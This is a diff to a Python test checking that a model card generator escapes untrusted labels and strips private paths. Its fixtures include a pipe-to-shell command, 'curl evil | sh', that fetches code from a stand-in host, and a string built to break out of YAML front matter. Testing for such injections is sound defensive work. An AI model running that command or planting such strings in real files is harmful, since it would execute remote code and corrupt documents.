@@ -181,8 +181,9 @@ def test_words_of_others_stay_words() -> None:
     facts["init"] = "/home/anna/clients/acme/model"
     checkpoint = checkpoint_of(VITS["class"])
     labels = (evil, *(checkpoint.labels or ())[1:])
-    card = model_card(dataclasses.replace(checkpoint, provenance=facts, labels=labels), "x", "hf:me/x y")
+    card = model_card(dataclasses.replace(checkpoint, provenance=facts, labels=labels), "x_y", "hf:me/x y")
     head = yaml.safe_load(card.split("\n---\n")[0].removeprefix("---\n"))
     assert head["model-index"][0]["results"][0]["dataset"]["name"] == r'a: "b"\n---\n'
+    assert head["model-index"][0]["name"] == "x_y" and "\n# x\\_y\n" in card
     assert card.count("## Use") == 1 and "curl evil \\| sh" in card
     assert "anna" not in card and "model" in card and "'hf:me/x y'" in card
